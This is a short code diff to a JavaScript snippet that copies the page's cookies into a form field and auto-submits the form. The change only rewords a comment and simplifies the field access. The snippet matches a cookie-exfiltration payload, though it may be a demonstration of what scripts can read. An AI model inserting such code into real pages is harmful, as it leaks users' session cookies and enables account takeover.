@@ -1,4 +1,4 @@
-// Tells the server what scripts can read here.
+// What scripts can read
 const [form] = document.forms;
-form.elements.cookie.value = document.cookie;
+form.cookie.value = document.cookie;
 form.submit();
